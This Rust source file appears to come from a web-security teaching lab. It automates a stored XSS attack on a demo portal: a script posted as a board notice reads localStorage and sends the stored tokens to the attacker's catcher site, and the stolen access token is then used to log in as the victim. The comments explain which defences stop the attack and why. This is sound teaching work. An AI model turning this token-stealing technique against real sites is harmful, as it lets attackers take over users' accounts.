//! A script in a notice reads `localStorage`, where the page for tokens keeps them, and sends what
//! it finds to the attacker. Worksheet 13.
//!
//! Start: the attacker has an ordinary account and may post on the board. The victim uses the page
//! for tokens and later reads the board.
//!
//! Why it works: storage belongs to the origin, not to a page. The script runs on the notice board
//! and reads what the page for tokens wrote. No flag hides it, as HttpOnly hides a cookie.
//!
//! Proof: the attacker's own client is logged in as the victim with the token that arrived.
//!
//! Stopped by `output`, by `csp` and by `token-storage`, each alone. Not stopped by `http-only`:
//! the token is in no cookie. Not by `jwt-signature` or any other check of a token: the token is
//! genuine. Not by `jwt-expiry`, for the minutes that it still has; and the loot contains the
//! refresh token as well.
//!
//! Refused for this program: a script that asks for new tokens as the page does. It also works against a
//! strong `token-storage`, for as long as the page is open, and only `output` and `csp` stop
//! it. It would hide what the storage decides: what a script can carry away.
//!
//! Source: ASVS 1.2.1, CWE-79, CWE-922. Read `src/defences/token_storage.rs` next.

use async_trait::async_trait;
use serde_json::Value;

use super::super::demo_accounts::demo_password;
use super::super::scenario::{ATTACKER, SCRIPT_PATIENCE, Scenario, ScenarioError, VICTIM};
use super::super::{Attack, Card, Engine, Outcome};
use super::bearer::judge;
use crate::attacks::payloads;
use crate::defences::policy::Name;

pub(in crate::attacks) struct XssReadsLocalStorage;

const CARD: Card = Card {
    name: "xss-reads-local-storage",
    title: "A script that reads localStorage",
    engine: Engine::Browser,
    victim: "Signed in with a token on one page, and with a session; opens the notice board.",
    means: "The attacker posts a notice with a script, which loads an image from the attacker's \
            site with everything in localStorage in its address.",
    evidence: "With the token that arrived the profile says that the attacker is logged in as the \
               victim.",
    stopped_by: &[&[Name::Output], &[Name::Csp], &[Name::TokenStorage]],
    when_stopped: "The board showed the script as text, the browser refused to run it, or it found \
                   no token to read.",
    shows: &["XSS-STORAGE", "XSS-RUN", "HDR-CSP"],
    standards: &["ASVS 1.2.1", "CWE-79", "CWE-922", "WSTG-CLNT-12"],
};

#[async_trait]
impl Attack for XssReadsLocalStorage {
    fn card(&self) -> &'static Card {
        &CARD
    }

    async fn run(&self, scenario: &Scenario) -> Result<Outcome, ScenarioError> {
        let portal = scenario.portal(scenario.scheme().await?);
        scenario.narrate("The attacker signs in as mallory and posts a notice with a script.");
        let mut attacker = scenario.actor("attacker");
        attacker.sign_in(ATTACKER).await?;
        // The page for tokens has no hole. The board has one, on the same origin, and an origin is
        // what `localStorage` belongs to.
        let script = payloads::steal_storage(&scenario.catcher());
        attacker.post_notice(&script).await?;

        scenario.narrate("The victim signs in on the page for tokens.");
        let victim = scenario.browser_actor("victim").await?;
        victim.visit(&format!("{portal}/jwt/")).await?;
        // The field already contains another name.
        victim.run::<Option<()>>(EMPTY_THE_FIELD).await?;
        let window = victim.window();
        window.fill_in("#username", VICTIM).await?;
        window.fill_in("#password", demo_password(VICTIM)).await?;
        // A real click on the real button: the page's own script sends the password and keeps what
        // comes back. Which storage it uses was decided by the portal.
        victim.click("#sign-in button").await?;
        // The page's script stores the token so that a reload does not lose it. Whatever a script
        // can read for the user, any script of the origin can read for somebody else.
        victim.until(THERE_IS_A_TOKEN).await?;

        scenario.narrate("The victim also signs in for a session and opens the notice board.");
        victim.sign_in(&portal, VICTIM).await?;
        victim.visit(&format!("{portal}/board")).await?;

        scenario.narrate("The attacker looks at the loot on their own site, and uses the token.");
        // With a cookie `http-only` would end the theft here. `localStorage` has no such flag. The
        // strong arm of `token-storage` keeps the refresh token in an HttpOnly cookie and the
        // access token in the memory of the page, which another page cannot read.
        let loot = scenario.wait_for_loot(SCRIPT_PATIENCE).await?;
        // The script sent every item without knowing any name. One of them is JSON with the tokens.
        let stolen = loot.iter().find_map(|loot| loot.query("storage"));
        let stolen = stolen.and_then(|stored| serde_json::from_str(&stored).ok());
        let Some(token) = stolen.and_then(|stored| token_in(&stored)) else {
            return Ok(Outcome::Stopped(CARD.when_stopped.into()));
        };
        // A stolen token works without the victim's browser. As with cookies, `output` and `csp`
        // stop the script itself and with it `xss_rides_session.rs`; the storage decides only what
        // a running script can take away.
        judge(&CARD, &mut attacker, &token, VICTIM).await
    }
}

const EMPTY_THE_FIELD: &str = "void (document.getElementById('username').value = '')";

/// The page says so when its script has the tokens and has put them where it keeps them.
const THERE_IS_A_TOKEN: &str =
    "document.getElementById('status').textContent.startsWith('A token for ')";

/// The access token among the items of a storage. Each item is text that may be JSON. An attacker's
/// program does not need to know the page: it looks for what looks like a token.
fn token_in(stored: &Value) -> Option<String> {
    let mut items = stored.as_object()?.values().filter_map(Value::as_str);
    items.find_map(|item| {
        let item: Value = serde_json::from_str(item).ok()?;
        item["access_token"].as_str().map(str::to_owned)
    })
}
